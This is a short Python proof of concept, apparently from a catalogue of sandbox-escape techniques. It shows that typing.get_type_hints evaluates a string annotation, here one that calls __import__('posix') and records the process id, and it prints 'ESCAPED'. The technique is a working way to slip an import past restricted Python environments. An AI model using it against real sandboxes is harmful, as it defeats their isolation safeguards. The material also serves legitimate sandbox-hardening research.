# technique: typing.get_type_hints evaluates annotation strings: in the namespace of the class's module
# goal: import
# source: own analysis: eval in trusted code
import typing


class X:
    a: 'found.append(__import__("posix").getpid()) or int'


found = []
typing.get_type_hints(X)
print('ESCAPED pid=%d' % found[0])
